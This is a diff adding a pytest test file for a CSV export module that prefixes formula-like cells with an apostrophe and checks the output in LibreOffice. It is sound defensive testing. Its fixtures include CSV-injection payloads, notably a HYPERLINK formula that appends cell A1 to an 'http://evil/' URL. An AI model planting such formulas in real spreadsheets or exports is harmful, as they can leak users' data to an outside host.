@@ -1,0 +1,149 @@
+"""talentdb.csvsafe: CSV exports that open safely, and readably, in a spreadsheet."""
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import decimal
+import io
+import re
+import shutil
+import subprocess
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from talentdb.csvsafe import neutralise, write_csv
+
+COLUMNS = ["id", "person", "org", "amount", "evidence"]
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ['=HYPERLINK("http://x")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1+2", "-1+2", "+886 2 1234 5678"],
+)
+def test_formula_cells_get_a_leading_apostrophe(cell):
+    assert neutralise(cell) == "'" + cell
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ["Mira Murati", "米拉·穆拉蒂", "首席技術長", "OpenAI", "a=b", "1+1", "", " =1 is fine after a space?", "'quoted"],
+)
+def test_plain_text_and_chinese_are_untouched(cell):
+    assert neutralise(cell) == cell
+
+
+def test_numbers_stay_numbers_even_negative():
+    assert neutralise(-5) == "-5"
+    assert neutralise(-0.25) == "-0.25"
+    assert neutralise(6600000000) == "6600000000"
+    assert neutralise(6.6e9) == "6600000000"  # no exponent that a spreadsheet would misread
+    assert neutralise(0.9) == "0.9"
+    assert neutralise(decimal.Decimal("-12.50")) == "-12.50"
+    assert neutralise(None) == ""
+    assert neutralise(True) == "true"
+    assert neutralise(dt.date(2024, 10, 9)) == "2024-10-09"
+
+
+def test_lists_become_one_readable_cell():
+    assert neutralise(["Tim Brooks", "Mira Murati"]) == "Tim Brooks; Mira Murati"
+    assert neutralise(["=cmd", "x"]) == "'=cmd; x"
+
+
+def rows():
+    return [
+        {"id": 1, "person": "米拉·穆拉蒂", "org": "OpenAI", "amount": None, "evidence": "上週,首席技術長離職"},
+        {"id": 2, "person": '=HYPERLINK("http://evil/?"&A1,"click")', "org": "-2+3", "amount": -5,
+         "evidence": 'line one\nline "two", with comma'},
+        {"id": 3, "person": "@SUM(A1)", "org": "Google DeepMind", "amount": 6600000000},  # evidence missing → empty
+    ]
+
+
+def test_csv_has_bom_header_crlf_and_neutralised_cells():
+    out = io.StringIO(newline="")
+    assert write_csv(rows(), COLUMNS, out) == 3
+    text = out.getvalue()
+    assert text.startswith("\ufeffid,person,org,amount,evidence\r\n")
+    parsed = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+    assert parsed[0] == COLUMNS
+    assert parsed[1] == ["1", "米拉·穆拉蒂", "OpenAI", "", "上週,首席技術長離職"]
+    assert parsed[2] == ["2", '\'=HYPERLINK("http://evil/?"&A1,"click")', "'-2+3", "-5", 'line one\nline "two", with comma']
+    assert parsed[3] == ["3", "'@SUM(A1)", "Google DeepMind", "6600000000", ""]
+    # Every record ends with CRLF (RFC 4180); the newline inside the quoted cell is kept as it was.
+    assert text.endswith("\r\n") and text.count("\r\n") == 4
+
+
+def test_bom_can_be_left_out():
+    out = io.StringIO(newline="")
+    write_csv(rows(), COLUMNS, out, bom=False)
+    assert out.getvalue().startswith("id,person")
+
+
+def test_raw_mode_keeps_values_as_they_are():
+    out = io.StringIO(newline="")
+    write_csv(rows(), COLUMNS, out, raw=True, bom=False)
+    parsed = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert parsed[2][1] == '=HYPERLINK("http://evil/?"&A1,"click")'
+    assert parsed[2][2] == "-2+3"
+
+
+def test_round_trip_through_a_utf8_file(tmp_path):
+    path = tmp_path / "events.csv"
+    with open(path, "w", encoding="utf-8", newline="") as handle:
+        write_csv(rows(), COLUMNS, handle)
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
+    with open(path, encoding="utf-8-sig", newline="") as handle:
+        parsed = list(csv.DictReader(handle))
+    assert [row["person"] for row in parsed] == ["米拉·穆拉蒂", '\'=HYPERLINK("http://evil/?"&A1,"click")', "'@SUM(A1)"]
+
+
+def test_empty_export_is_just_the_header():
+    out = io.StringIO(newline="")
+    assert write_csv([], COLUMNS, out, bom=False) == 0
+    assert out.getvalue() == "id,person,org,amount,evidence\r\n"
+
+
+# --------------------------------------------------------------------------- through a real spreadsheet
+
+
+def _xlsx_cells(path: Path) -> tuple[list[str], str]:
+    """Shared strings and the raw first sheet XML, read with zipfile so openpyxl is not needed."""
+    with zipfile.ZipFile(path) as book:
+        names = book.namelist()
+        strings_xml = book.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in names else ""
+        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
+    strings = [re.sub(r"<[^>]+>", "", si) for si in re.findall(r"<si>(.*?)</si>", strings_xml, re.S)]
+    inline = [re.sub(r"<[^>]+>", "", s) for s in re.findall(r"<is>(.*?)</is>", sheet_xml, re.S)]
+    import html
+
+    return [html.unescape(s) for s in strings + inline], sheet_xml
+
+
+# LibreOffice's headless conversion ignores the BOM and reads a CSV as Latin-1 unless told the charset;
+# a person opening the file gets the import dialog instead. 44,34,76,1 = comma, double quote, UTF-8, from line 1.
+LIBREOFFICE_UTF8_CSV = "CSV:44,34,76,1"
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(shutil.which("soffice") is None,
+                    reason="LibreOffice (soffice) is not on PATH; CI: apt-get install -y --no-install-recommends libreoffice-calc-nogui")
+def test_libreoffice_opens_the_csv_with_chinese_and_no_formulas(tmp_path):
+    for name, raw in (("safe", False), ("raw", True)):
+        with open(tmp_path / f"{name}.csv", "w", encoding="utf-8", newline="") as handle:
+            write_csv(rows(), COLUMNS, handle, raw=raw)
+    result = subprocess.run(
+        ["soffice", f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless",
+         f"--infilter={LIBREOFFICE_UTF8_CSV}", "--convert-to", "xlsx", "--outdir", str(tmp_path),
+         str(tmp_path / "safe.csv"), str(tmp_path / "raw.csv")],
+        capture_output=True, text=True, timeout=300,
+    )
+    assert (tmp_path / "safe.xlsx").exists(), f"soffice failed: {result.stdout} {result.stderr}"
+    strings, sheet_xml = _xlsx_cells(tmp_path / "safe.xlsx")
+    assert "米拉·穆拉蒂" in strings
+    assert "上週,首席技術長離職" in strings
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no cell became a formula
+    assert any("HYPERLINK" in s for s in strings)  # it is there, as text
+    # Control: without neutralising, the same cells do become formulas, so the check above can fail.
+    _, raw_sheet_xml = _xlsx_cells(tmp_path / "raw.xlsx")
+    assert "<f" in raw_sheet_xml
